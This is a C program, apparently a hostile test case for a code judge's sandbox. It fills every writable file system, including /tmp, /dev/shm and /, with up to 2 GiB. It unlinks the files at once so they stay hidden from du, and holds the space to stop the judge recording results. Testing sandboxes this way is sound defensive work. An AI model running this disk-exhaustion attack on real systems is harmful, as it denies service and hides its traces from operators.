/* attack: fills every file system it can write to (2 GiB together, held for up to 20 s)
 * expect: nothing
 * slow: it writes until the disk is full, in test after test
 */

/* A full disk makes the judge's own results fail to be written. The files are unlinked as soon as
 * they are open: nothing stays behind, and `du` shows nothing. */

#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static long budget_mib = 2048;

static void fill(const char *folder) {
    static char block[1 << 20];
    char path[4096];
    memset(block, 'x', sizeof block);
    /* Several files, as RLIMIT_FSIZE limits each one. */
    for (int i = 0; i < 64 && budget_mib > 0; i++) {
        snprintf(path, sizeof path, "%s/hostile-%d-%d", folder, (int)getpid(), i);
        int fd = open(path, O_CREAT | O_EXCL | O_WRONLY, 0600);
        if (fd < 0)
            return;
        unlink(path);
        for (int m = 0; m < 64 && budget_mib > 0; m++, budget_mib--)
            if (write(fd, block, sizeof block) <= 0)
                break;
    }
}

int main(void) {
    static const char *const folders[] = {".", "..", "/tmp", "/dev/shm", "/var/tmp", "/run", "/"};
    signal(SIGXFSZ, SIG_IGN);
    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++)
        fill(folders[i]);
    if (getenv("HOME") != NULL)
        fill(getenv("HOME"));
    sleep(20);
    return 0;
}
